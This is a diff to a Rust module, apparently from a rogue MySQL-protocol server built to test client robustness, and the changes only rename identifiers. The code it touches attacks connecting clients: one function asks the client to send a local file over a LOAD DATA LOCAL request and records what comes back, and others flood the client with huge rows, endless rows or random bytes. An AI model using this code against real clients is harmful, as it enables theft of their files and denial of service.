@@ -5,12 +5,12 @@ use std::io;
 use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 
 use super::recording::Recording;
-use super::{RogueMode, answers};
-use crate::fake::packets;
+use super::{RogueMode, responses};
+use crate::fake_server::packets;
 use crate::protocol::{MAX_PAYLOAD, read_packet, write_head, write_packet};
 
 /// Bytes that are written at once.
-const PIECE: usize = 64 << 10;
+const CHUNK_SIZE: usize = 64 << 10;
 
 /// Attacks by the response to a statement. Returns false where the mode has no attack on signed-in clients.
 pub(super) async fn run<S: AsyncRead + AsyncWrite + Unpin>(
@@ -19,7 +19,7 @@ pub(super) async fn run<S: AsyncRead + AsyncWrite + Unpin>(
     mode: &RogueMode,
     recording: &Recording,
 ) -> io::Result<bool> {
-    let columns = answers::column_count(statement).unwrap_or(1);
+    let columns = responses::column_count(statement).unwrap_or(1);
     match mode {
         RogueMode::FullAuthentication
         | RogueMode::ClearPassword
@@ -60,11 +60,11 @@ async fn request_file<S: AsyncRead + AsyncWrite + Unpin>(
     write_packet(stream, 1, &[&[0xfb], path.as_bytes()].concat()).await?;
     stream.flush().await?;
     loop {
-        let (sequence, piece) = read_packet(stream).await?;
-        if piece.is_empty() {
+        let (sequence, chunk) = read_packet(stream).await?;
+        if chunk.is_empty() {
             return write_packet(stream, sequence.wrapping_add(1), &packets::OK).await;
         }
-        recording.received(piece);
+        recording.received(chunk);
     }
 }
 
@@ -75,12 +75,12 @@ async fn huge_row<S: AsyncRead + AsyncWrite + Unpin>(
     bytes: u64,
     recording: &Recording,
 ) -> io::Result<()> {
-    let mut sequence = answers::send_columns(stream, columns).await?;
+    let mut sequence = responses::send_columns(stream, columns).await?;
     let mut start: Vec<u8> = b"\x011".repeat(columns.saturating_sub(1));
     start.push(0xfe);
     start.extend_from_slice(&bytes.to_le_bytes());
     let mut left = usize::try_from(bytes).map_err(io::Error::other)? + start.len();
-    let filler = vec![b'x'; PIECE];
+    let filler = vec![b'x'; CHUNK_SIZE];
     loop {
         let payload = left.min(MAX_PAYLOAD);
         write_head(stream, sequence, payload).await?;
@@ -88,10 +88,10 @@ async fn huge_row<S: AsyncRead + AsyncWrite + Unpin>(
         let mut unsent = payload;
         while unsent > 0 {
             let source = if start.is_empty() { &filler } else { &start };
-            let piece = source.get(..source.len().min(unsent)).unwrap_or_default();
-            stream.write_all(piece).await?;
-            recording.sent(piece.len());
-            unsent -= piece.len();
+            let chunk = source.get(..source.len().min(unsent)).unwrap_or_default();
+            stream.write_all(chunk).await?;
+            recording.sent(chunk.len());
+            unsent -= chunk.len();
             start.clear();
         }
         left -= payload;
@@ -107,7 +107,7 @@ async fn endless_rows<S: AsyncRead + AsyncWrite + Unpin>(
     columns: usize,
     recording: &Recording,
 ) -> io::Result<()> {
-    let sequence = answers::send_columns(stream, columns).await?;
+    let sequence = responses::send_columns(stream, columns).await?;
     let statement = "x".repeat(1000);
     let mut values: Vec<Option<&[u8]>> = vec![Some(b"1"); columns];
     if let Some(last) = values.last_mut() {
@@ -134,16 +134,16 @@ async fn repeat<S: AsyncRead + AsyncWrite + Unpin>(
 async fn garbage<S: AsyncRead + AsyncWrite + Unpin>(stream: &mut S, recording: &Recording) -> io::Result<()> {
     let mut state = 0x9e37_79b9_u32;
     for _ in 0..16 {
-        let piece: Vec<u8> = std::iter::repeat_with(|| {
+        let chunk: Vec<u8> = std::iter::repeat_with(|| {
             state ^= state << 13;
             state ^= state >> 17;
             state ^= state << 5;
             state.to_le_bytes()[0]
         })
-        .take(PIECE)
+        .take(CHUNK_SIZE)
         .collect();
-        stream.write_all(&piece).await?;
-        recording.sent(piece.len());
+        stream.write_all(&chunk).await?;
+        recording.sent(chunk.len());
     }
     stream.shutdown().await
 }
